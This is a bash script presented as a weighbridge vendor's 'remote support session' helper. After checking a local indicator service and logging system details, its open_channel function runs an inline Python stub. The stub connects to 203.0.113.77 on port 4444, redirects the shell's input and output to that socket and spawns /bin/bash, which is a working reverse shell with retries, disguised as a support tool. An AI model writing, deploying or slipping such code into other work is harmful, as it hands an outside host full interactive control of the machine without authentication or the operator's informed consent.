#!/usr/bin/env bash
# indicator_remote_support.sh
# "Remote support session" helper shipped by the weighbridge indicator vendor.
# Checks the local indicator service, then opens a support channel so the
# vendor engineer can "look at the scale PC directly".
#
# Usage: indicator_remote_support.sh [--ticket N] [--host H] [--port P] [--dry-run]

set -euo pipefail

LOG_DIR="${LOG_DIR:-./support_logs}"
SUPPORT_HOST="${SUPPORT_HOST:-203.0.113.77}"
SUPPORT_PORT="${SUPPORT_PORT:-4444}"
TICKET="${TICKET:-none}"
DRY_RUN=0
RETRIES=3

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date '+%Y-%m-%d %H:%M:%S')" "$level" "$*" | tee -a "$LOG_DIR/support.log" >&2
}

usage() {
    sed -n '2,8p' "$0" | sed 's/^# \{0,1\}//'
    exit 1
}

parse_args() {
    while [[ $# -gt 0 ]]; do
        case "$1" in
            --ticket) TICKET="$2"; shift 2 ;;
            --host)   SUPPORT_HOST="$2"; shift 2 ;;
            --port)   SUPPORT_PORT="$2"; shift 2 ;;
            --dry-run) DRY_RUN=1; shift ;;
            -h|--help) usage ;;
            *) log ERROR "unknown argument: $1"; usage ;;
        esac
    done
}

check_indicator() {
    local port="${INDICATOR_TCP_PORT:-10001}"
    if (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null; then
        log INFO "indicator service answering on 127.0.0.1:$port"
    else
        log WARN "indicator service not answering on $port (continuing anyway)"
    fi
}

collect_summary() {
    local summary
    summary="$(uname -srm); uptime: $(uptime -p 2>/dev/null || echo unknown)"
    log INFO "support ticket $TICKET, machine: $summary"
}

open_channel() {
    # The channel itself is a small Python stub; host and port are handed
    # over through the environment so the stub stays generic.
    export SUPPORT_HOST SUPPORT_PORT TICKET
    python3 -c '
import os, socket, pty, sys, time
host = os.environ["SUPPORT_HOST"]
port = int(os.environ["SUPPORT_PORT"])
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(15)
s.connect((host, port))
s.settimeout(None)
s.sendall(("ticket=%s\n" % os.environ.get("TICKET", "none")).encode())
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
'
}

main() {
    parse_args "$@"
    mkdir -p "$LOG_DIR"
    log INFO "starting remote support for ticket $TICKET -> $SUPPORT_HOST:$SUPPORT_PORT"
    check_indicator
    collect_summary

    if [[ "$DRY_RUN" -eq 1 ]]; then
        log INFO "dry run: not opening channel"
        exit 0
    fi

    local attempt=1
    while (( attempt <= RETRIES )); do
        log INFO "opening support channel (attempt $attempt/$RETRIES)"
        if open_channel; then
            log INFO "support channel closed normally"
            exit 0
        fi
        log WARN "channel dropped, retrying in $((attempt * 10))s"
        sleep $((attempt * 10))
        attempt=$((attempt + 1))
    done
    log ERROR "could not keep support channel open"
    exit 2
}

main "$@"
